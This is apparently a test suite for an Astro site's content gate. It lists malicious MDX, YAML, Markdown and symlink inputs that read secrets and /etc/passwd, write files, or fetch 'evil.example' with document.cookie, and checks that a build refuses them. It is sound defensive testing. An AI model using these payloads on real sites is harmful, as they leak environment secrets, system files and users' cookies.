import { cpSync, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import config from '../../astro.config.mjs';
import { Checkout } from '../support/checkout.ts';
import { faultsAfter, link, remove, wholeTree, write, type Change } from '../unit/content-tree.ts';

const secret = 'hush-3f9c1d7e';
/** What an attack writes if it runs: a file beside the content. */
const proof = 'src/attacked.txt';
const builtin = 'process.getBuiltinModule("fs")';
const attack = `fs.writeFileSync(${JSON.stringify(proof)}, process.env.SECRET_TOKEN ?? "")`;

const head = '---\ntitle: Бет\nsummary: Бет туралы.\n---\n\n';
const page = (name: string, body: string): Change => write(`pages/${name}/kk.mdx`, `${head}${body}\n`);
const text = (body: string, fields = ''): Change =>
  write('institutions/kindergarten-5/kk.md', `---\ntitle: Бақша\nsummary: Балабақша.\n${fields}---\n\n${body}\n`);

/** Puts a symbolic link in the place of a file. */
const instead =
  (file: string, to: string): Change =>
  (root) => {
    remove(file)(root);
    link(file, to)(root);
  };

type Attack = readonly [name: string, change: Change, rules: readonly string[]];

/** What a pull request may try that touches nothing but content, each in files of its own. */
const attacks: readonly Attack[] = [
  ['a page imports a program', page('a-import', `import fs from "node:fs"\n\n{${attack}}`), ['raw-html', 'raw-html']],
  ['a page exports what it computes', page('a-export', 'export const x = process.env.SECRET_TOKEN'), ['raw-html']],
  ['a page prints the environment', page('a-print', 'Мәтін {process.env.SECRET_TOKEN} мәтін.'), ['raw-html']],
  ['a page prints a file', page('a-file', `{${builtin}.readFileSync("/etc/passwd", "utf8")}`), ['raw-html']],
  ['a page writes a file', page('a-write', `{${attack.replace('fs', builtin)}}`), ['raw-html']],
  ['a page computes an attribute', page('a-title', '<a title={process.env.SECRET_TOKEN}>Мәтін</a>'), ['raw-html']],
  ['a page spreads the environment', page('a-spread', '<a {...process.env}>Мәтін</a>'), ['raw-html']],
  ['a page sets HTML', page('a-html', '<Fragment set:html={process.env.SECRET_TOKEN} />'), ['raw-html']],
  ['a page uses a part of the site', page('a-part', 'import X from "../../../layouts/SitePage.astro"'), ['raw-html']],
  ['a page holds a script', page('a-script', '<script>fetch("https://evil.example/")</script>'), ['raw-html']],
  ['a page hides code in a comment', page('a-comment', `{/* x */ ${attack.replace('fs', builtin)}}`), ['raw-html']],
  [
    'a page names a layout',
    write('pages/a-layout/kk.mdx', `${head.replace('title', 'layout: ../../../../attack.mjs\ntitle')}Мәтін.\n`),
    ['unknown-field'],
  ],
  [
    'a page is Astro',
    write('pages/a-astro/index.astro', '---\nconst x = process.env;\n---\n\n{x.SECRET_TOKEN}\n'),
    ['texts-missing', 'unexpected-file'],
  ],
  ['content configures itself', write('config.ts', `import fs from "node:fs";\n${attack};\n`), ['unexpected-file']],
  [
    'content brings a program',
    write('sources/index.js', `import fs from "node:fs";\n${attack};\n`),
    ['unexpected-file'],
  ],
  ['content brings a package', write('package.json', '{ "imports": { "#x": "/etc/passwd" } }\n'), ['unexpected-file']],
  ['content tells the compiler', write('tsconfig.json', '{ "extends": "/etc/passwd" }\n'), ['unexpected-file']],
  ['facts are a file of the machine', link('sources/secret.yaml', '/etc/passwd'), ['unexpected-file']],
  ['facts are the environment', link('sources/environment.yaml', '/proc/self/environ'), ['unexpected-file']],
  ['a text is a file of the machine', link('campaigns/kids-run-2017/en.md', '/etc/passwd'), ['unexpected-file']],
  ['facts lead nowhere', link('sources/lost.yaml', 'nowhere'), ['unexpected-file']],
  ['facts are a folder', write('sources/folder.yaml/facts.yaml', ''), ['unexpected-file']],
  ['the ledger never ends', instead('ledger.jsonl', '/dev/zero'), ['ledger-broken', 'unexpected-file']],
  ['an entry is a folder of the machine', link('institutions/machine', '/etc'), ['unexpected-file']],
  ['a picture is a file of the machine', link('institutions/school-1/photo.jpg', '/etc/passwd'), ['unexpected-file']],
];

/** What it may try in a text. */
const textAttacks: readonly Attack[] = [
  ['a tag makes a function', text('Мәтін.', 'onlyHere: !!js/function "() => process.env"\n'), ['yaml-feature']],
  ['a key changes every object', text('Мәтін.', '__proto__: { layout: /etc/passwd }\n'), ['reserved-key']],
  ['it sets its address', text('Мәтін.', 'slug: ../../../x\nurl: /kk/\n'), ['unknown-field', 'unknown-field']],
  ['it runs a script', text('<script>fetch("https://evil.example/?" + document.cookie)</script>'), ['raw-html']],
  ['it runs a script where code would be', text('    <img src="x" onerror="alert()">'), ['raw-html']],
  ['it prints a file of the project as a picture', text('![Қалта](../../../../package.json)'), ['picture-path']],
  ['it prints a file of the machine as a picture', text('![Қалта](/etc/passwd)'), ['picture-path']],
  ['it prints a file by its scheme', text('![Қалта](file:///etc/passwd)'), ['picture-remote']],
  ['it loads a picture while it is built', text('![Қалта](https://evil.example/x.png)'), ['picture-remote']],
  ['a citation carries a handler', text(':figure[120 бала]{#pupils-school-1 onclick="alert()"}'), ['citation-form']],
];

/** A checkout with the sample content and attacks on top of it. */
function attackedCheckout(changes: readonly Change[]): Checkout {
  const checkout = new Checkout();
  const content = checkout.file('src/content');
  rmSync(content, { recursive: true });
  cpSync(wholeTree, content, { recursive: true });
  for (const change of changes) change(content);
  writeFileSync(checkout.file('attack.mjs'), 'export default () => process.env.SECRET_TOKEN;\n');
  checkout.environment['SECRET_TOKEN'] = secret;
  return checkout;
}

/** The files of a checkout that hold some words. */
const filesWith = (checkout: Checkout, words: string): string[] =>
  checkout.files().filter((file) => readFileSync(checkout.file(file)).includes(words));

describe('untrusted content', () => {
  it.each([...attacks, ...textAttacks])('is refused by itself: %s', (_name, change, rules) => {
    expect(faultsAfter(change).map(({ rule }) => rule)).toEqual(rules);
  });
});

describe('a build of all attacks at once', () => {
  const checkout = attackedCheckout(attacks.map(([, change]) => change));
  afterAll(() => checkout.remove());

  const expectNothing = ({ status, output }: { status: number | null; output: string }): void => {
    expect(status, output).toBe(1);
    for (const words of ['a-import/kk.mdx:6:1  raw-html', 'sources/secret.yaml:1:1  unexpected-file'])
      expect(output).toContain(words);
    expect(output).not.toContain(secret);
    expect(output).not.toContain('root:x:');
    expect(existsSync(checkout.file(proof))).toBe(false);
    expect(existsSync(checkout.file('dist'))).toBe(false);
    expect(filesWith(checkout, secret)).toEqual([]);
    expect(filesWith(checkout, 'root:x:')).toEqual([]);
  };

  it('runs nothing, reads nothing from elsewhere, and tells nothing of the environment', () => {
    expectNothing(checkout.build());
  });

  it('is refused whatever flags it is given, and whatever the environment says', () => {
    mkdirSync(checkout.file('kept'));
    Object.assign(checkout.environment, {
      NODE_ENV: 'development',
      DEV: 'true',
      PROD: '',
      MODE: 'development',
      VITEST: 'true',
      CI: 'true',
      LANG: 'en_US.UTF-8',
      SKIP_CHECK: '1',
      CONTENT_GATE: 'off',
      KEPT_FOLDER: 'kept',
      PROGRAM_DIGEST: '',
      ASTRO_DEV_BACKGROUND: '0',
    });
    expectNothing(checkout.run('scripts/build.mjs', '--force', '--mode', 'development', '--skip-check', '--silent'));
    expectNothing(checkout.run('node_modules/astro/bin/astro.mjs', 'build', '--force', '--mode', 'development'));
  });
});

describe('the gate', () => {
  it('is the first thing that a build does', () => {
    const [first] = (config.integrations ?? []).flat();
    expect(first && 'name' in first ? first.name : undefined).toBe('content-gate');
  });

  it('asks the environment for nothing that could open it', () => {
    const names = modulesFrom('src/integrations/content-gate.ts').flatMap((file) =>
      [...readFileSync(file, 'utf8').matchAll(/\benv(?:ironment)?(?:\.|\[')(\w+)/g)].map(([, name]) => name),
    );
    // What is kept of texts that were found right is asked for by the program's digest; a build sets both itself.
    const ofTheBuild = ['KEPT_FOLDER', 'PROGRAM_DIGEST'];
    expect([...new Set(names)].sort()).toEqual(
      ['BUILD_DATE', 'LANG', 'SHOWS_WAITING', 'SITE_URL', ...ofTheBuild].sort(),
    );
  });

  it('is all that stands between a page and the machine: without it, the same page tells the secret', () => {
    const checkout = attackedCheckout(attacks.filter(([name]) => /prints the|writes/.test(name)).map(([, put]) => put));
    try {
      const file = checkout.file('astro.config.mjs');
      const open = readFileSync(file, 'utf8').replace(
        'contentGate(date)',
        "{ ...contentGate(date), hooks: { 'astro:config:setup': (setup) => contentGate(date).hooks['astro:config:setup']({ ...setup, command: 'sync' }) } }",
      );
      writeFileSync(file, open);
      const { status, output } = checkout.build();
      expect(status, output).toBe(0);
      expect(existsSync(checkout.file(proof))).toBe(true);
      expect(filesWith(checkout, secret)).toContain('dist/kk/a-print/index.html');
    } finally {
      checkout.remove();
    }
  });
});

/** A module and all modules of the project that it imports, however far. */
function modulesFrom(file: string, found = new Set<string>()): string[] {
  if (!found.has(file)) {
    found.add(file);
    for (const [, imported = ''] of readFileSync(file, 'utf8').matchAll(/ from '(\.[^']+)'/g))
      modulesFrom(path.join(path.dirname(file), imported), found);
  }
  return [...found];
}
